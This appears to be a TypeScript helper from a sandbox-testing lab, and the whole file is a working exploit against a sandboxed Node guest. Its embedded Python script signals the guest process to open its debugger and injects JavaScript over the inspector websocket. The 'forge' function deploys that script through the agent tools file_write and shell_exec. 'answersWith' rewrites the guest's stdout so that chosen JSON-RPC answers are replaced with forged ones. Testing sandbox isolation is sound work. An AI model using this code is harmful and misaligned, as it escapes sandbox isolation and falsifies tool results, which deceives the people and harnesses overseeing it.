import { type Inside, textOf } from "./sandbox-lab.ts";

/** User code has the guest's own rights: a signal opens its debugger, and then it says whatever it is told to say. */
const TAKE_OVER = `
import base64, json, os, signal, socket, struct, sys, time, urllib.request
def is_guest(pid):
    try: program, *args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
    except OSError: return False
    return program.endswith(b"node") and any(arg.endswith(b"guest.mjs") for arg in args)
os.kill(next(int(pid) for pid in os.listdir("/proc") if pid.isdigit() and is_guest(pid)), signal.SIGUSR1)
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
for _ in range(1000):
    try: target = json.load(opener.open("http://127.0.0.1:9229/json/list"))[0]; break
    except OSError: time.sleep(0.01)
path = target["webSocketDebuggerUrl"].split("9229", 1)[1]
line = socket.create_connection(("127.0.0.1", 9229))
key = base64.b64encode(os.urandom(16)).decode()
line.sendall(f"GET {path} HTTP/1.1\\r\\nHost: 127.0.0.1:9229\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: {key}\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n".encode())
line.recv(4096)
body = json.dumps({"id": 1, "method": "Runtime.evaluate", "params": {"expression": open("forge.js").read().ljust(200)}}).encode()
line.sendall(b"\\x81\\xfe" + struct.pack(">H", len(body)) + b"\\0\\0\\0\\0" + body)
line.settimeout(10)
try: print(line.recv(65536)[-300:])
except OSError: pass

`;

export interface ForgeOptions {
  readonly afterwards: string;
  readonly timeoutSeconds: number;
}

/** Runs JavaScript in the guest of a sandbox, and returns what the call said that did it. */
export async function forge(
  inside: Inside,
  expression: string,
  { afterwards, timeoutSeconds }: ForgeOptions = { afterwards: "sleep 30", timeoutSeconds: 40 },
): Promise<string> {
  await inside.call("file_write", { path: "take-over.py", content: TAKE_OVER });
  await inside.call("file_write", { path: "forge.js", content: expression });
  const command = `python3 take-over.py; ${afterwards}`;
  return textOf(await inside.call("shell_exec", { command, timeout_seconds: timeoutSeconds }));
}

/** The guest goes on as before, but an answer that has the mark in it becomes another one: `"result":…` or `"error":…`. */
export const answersWith = (mark: string, member: string): string => `
  const write = process.stdout.write.bind(process.stdout);
  process.stdout.write = (text, ...rest) => {
    const id = /"id":"([\\w-]{20})"/.exec(text)?.[1];
    if (!text.includes(${JSON.stringify(mark)})) return write(text, ...rest);
    const body = '{"jsonrpc":"2.0","id":"' + id + '",' + ${member} + "}";
    return write("Content-Length: " + Buffer.byteLength(body) + "\\r\\n\\r\\n" + body, ...rest);
  };`;
